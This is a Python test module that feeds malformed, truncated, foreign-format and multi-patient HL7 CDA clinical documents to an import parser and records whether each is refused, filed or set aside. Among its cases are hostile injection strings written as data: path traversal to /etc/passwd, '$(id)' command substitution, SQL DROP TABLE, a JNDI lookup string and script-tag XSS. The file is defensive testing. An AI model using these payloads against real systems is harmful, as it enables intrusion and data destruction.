"""Files of a wrong form: broken, cut, doubled, dressed up as another, or about somebody else."""

from core.interop.refused_file import FileRefusal
from tests.core.interop.cda_samples import as_bytes, matricule
from tests.core.interop.hostile.fates import Case, Cases, filed, refused, set_aside
from tests.core.interop.hostile.making import FILE, HEAD, INSIDE, SOUND, in_body, in_root, utf8

CDA = "urn:hl7-org:v3"
MALFORMED, TRUNCATED, FOREIGN = FileRefusal.MALFORMED, FileRefusal.TRUNCATED, FileRefusal.NOT_CLINICAL_DOCUMENT
SEVERAL = FileRefusal.SEVERAL_PATIENTS
PARTS = 16
BYTES = SOUND.encode()
END = "</ClinicalDocument>"
TARGET = SOUND[SOUND.index("<recordTarget>") : SOUND.index("</recordTarget>")] + "</recordTarget>"


def cut(part: int) -> Case:
    """The first sixteenths of a file."""
    return refused(TRUNCATED, lambda: BYTES[: len(BYTES) * part // PARTS])


def replaced(old: str, new: str) -> bytes:
    """A document with one thing written otherwise."""
    assert old in SOUND
    return SOUND.replace(old, new).encode()


def prefixed() -> bytes:
    """The same document with a prefix on every name."""
    return SOUND.replace("</", "</h:").replace("<", "<h:").replace("<h:/h:", "</h:").replace("<h:?", "<?").replace(
        "xmlns=", "xmlns:h="
    ).encode()  # fmt: skip


def patient_of() -> str:
    """Somebody else."""
    names = '<name><family qualifier="BR">AUTRE</family><given>ZOE</given></name>'
    return f'<patient>{names}<administrativeGenderCode code="F"/><birthTime value="19790312"/></patient>'


def role_of() -> str:
    """Somebody else, with a number."""
    return f"<patientRole>{matricule('279035121518989')}{patient_of()}</patientRole>"


def target_of() -> str:
    """Whom a document is about, when it is about somebody else."""
    return f"<recordTarget>{role_of()}</recordTarget>"


FORMS: Cases = {
    **{f"cut after {part} sixteenths": cut(part) for part in range(1, PARTS)},
    "cut before its last letter": refused(TRUNCATED, lambda: BYTES[:-1]),
    "cut after a tag": refused(TRUNCATED, lambda: BYTES[: BYTES.rindex(b"</ClinicalDocument>")]),
    "tags that cross": refused(MALFORMED, lambda: in_body("<paragraph><content></paragraph></content>")),
    "same attribute twice": refused(MALFORMED, lambda: in_body('<content ID="a" ID="b"/>')),
    "same attribute under two prefixes": refused(
        MALFORMED, lambda: in_body('<content xmlns:a="u" xmlns:b="u" a:ID="a" b:ID="b"/>')
    ),
    "unknown prefix": refused(MALFORMED, lambda: in_body("<evil:paragraph/>")),
    "unknown prefix of an attribute": refused(MALFORMED, lambda: in_body('<content evil:ID="a"/>')),
    "prefix of nothing": refused(MALFORMED, lambda: in_root('xmlns:a=""')),
    "the prefix of XML taken": refused(MALFORMED, lambda: in_root(f'xmlns:xml="{CDA}"')),
    "attribute without quotes": refused(MALFORMED, lambda: in_body("<content ID=a/>")),
    "tag in an attribute": refused(MALFORMED, lambda: in_body('<content ID="<b>"/>')),
    "end of a CDATA in the text": refused(MALFORMED, lambda: in_body("a]]>b")),
    "dashes in a comment": refused(MALFORMED, lambda: in_body("<!-- a -- b -->")),
    "declaration in the middle": refused(MALFORMED, lambda: in_body('<?xml version="1.0"?>x')),
    "space before the declaration": refused(MALFORMED, lambda: b" " + BYTES),
    "two roots": refused(MALFORMED, lambda: utf8(SOUND + INSIDE)),
    "words behind the root": refused(MALFORMED, lambda: BYTES + b"x>"),
    "a version of XML to come": filed(lambda: replaced('version="1.0"', 'version="1.9"')),
    "bare PDF": refused(FileRefusal.NOT_XML, lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
    "PDF around a document": refused(FileRefusal.BROKEN_ENCODING, lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + BYTES),
    "picture around a document": refused(FileRefusal.BROKEN_ENCODING, lambda: b"\xff\xd8\xff\xe0" + BYTES),
    "JSON": refused(FileRefusal.NOT_XML, lambda: b'{"resourceType": "Bundle"}'),
    "FHIR": refused(FOREIGN, lambda: b'<Bundle xmlns="http://hl7.org/fhir"/>'),
    "HTML": refused(FOREIGN, lambda: utf8(f"<html><script>alert(1)</script><body>{INSIDE}</body></html>")),
    "HTML as written": refused(
        FileRefusal.HAS_DOCTYPE, lambda: b"<!DOCTYPE html><html><head><meta charset=utf-8></head></html>"
    ),
    "SVG": refused(
        FOREIGN, lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="/etc"/></svg>'
    ),
    "SOAP around a document": refused(
        FOREIGN,
        lambda: utf8(f'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">{INSIDE}</s:Envelope>'),
    ),
    "no namespace": refused(FOREIGN, lambda: replaced(f' xmlns="{CDA}"', "")),
    "a namespace that looks alike": refused(FOREIGN, lambda: replaced(CDA, f"{CDA}/")),
    "a namespace in capitals": refused(FOREIGN, lambda: replaced(CDA, CDA.upper())),
    "a namespace bound anew inside": refused(
        FileRefusal.NO_PATIENT, lambda: replaced("<recordTarget>", '<recordTarget xmlns="urn:other">')
    ),
    "a namespace bound to the prefix of another": filed(lambda: in_root(f'xmlns:hl7="urn:other" xmlns:sdtc="{CDA}"')),
    "a prefix everywhere": filed(prefixed),
    "a document inside the text": filed(lambda: in_body(f"x{INSIDE}")),
    "no identifier": refused(FileRefusal.NO_DOCUMENT_ID, lambda: as_bytes(identifier="<id/>")),
    "no type": refused(FileRefusal.NO_TYPE, lambda: as_bytes(code="<code/>")),
    "no date": refused(FileRefusal.NO_DATE, lambda: as_bytes(time='<effectiveTime nullFlavor="UNK"/>')),
    "a day that never was": refused(FileRefusal.NO_DATE, lambda: as_bytes(time='<effectiveTime value="20260230"/>')),
    "a moment before time": refused(
        FileRefusal.NO_DATE, lambda: as_bytes(time='<effectiveTime value="00010101000000+1400"/>')
    ),
    "nobody": refused(FileRefusal.NO_PATIENT, lambda: replaced("patientRole>", "patientRoles>")),
    "an identifier on a path that climbs": filed(
        lambda: as_bytes(identifier='<id root="../../../../etc/passwd" extension="a\\..\\b"/>')
    ),
    "an identifier that is a command": filed(
        lambda: as_bytes(identifier='<id root="$(id)" extension="\'; DROP TABLE documents; --"/>')
    ),
    "a title that is markup": filed(lambda: as_bytes(title=f"&lt;img src={FILE}&gt;${{jndi:ldap://a}}%s{{0}}")),
    "another person's number": set_aside(lambda: as_bytes(ids=matricule("279035121518989"))),
    "a number from another issuer": set_aside(lambda: as_bytes(ids=matricule(oid="1.2.250.1.213.1.4.8"))),
    # Copied from a page, as people do. Without the mark the number, its key and every trait agree, or it would be set
    # aside; it is filed with the warning « hidden-marks » (`test_cda_header`).
    "a number with an invisible mark": filed(lambda: as_bytes(ids=matricule("24203\N{WORD JOINER}99999042"))),
    # Wide digits are other characters than those of a number: somebody wrote them on purpose.
    "a number in wide digits": set_aside(lambda: as_bytes(ids=matricule("\uff12420399999042"))),
    "no number": set_aside(lambda: as_bytes(ids="")),
    "another person first": refused(SEVERAL, lambda: replaced("<recordTarget>", target_of() + "<recordTarget>")),
    "another person second": refused(SEVERAL, lambda: replaced("</recordTarget>", "</recordTarget>" + target_of())),
    "another person behind the body": refused(SEVERAL, lambda: replaced(END, target_of() + END)),
    "another role in one target": refused(SEVERAL, lambda: replaced("</patientRole>", "</patientRole>" + role_of())),
    "another patient in one role": refused(SEVERAL, lambda: replaced("</patient>", "</patient>" + patient_of())),
    "the same person twice": refused(SEVERAL, lambda: replaced(TARGET, TARGET * 2)),
    "a person and nobody": refused(SEVERAL, lambda: replaced("<recordTarget>", "<recordTarget/><recordTarget>")),
    "a declaration alone": refused(TRUNCATED, lambda: utf8(HEAD)),
    "a prolog alone": refused(TRUNCATED, lambda: utf8(HEAD + "<!-- a --><?b?>\n")),
}
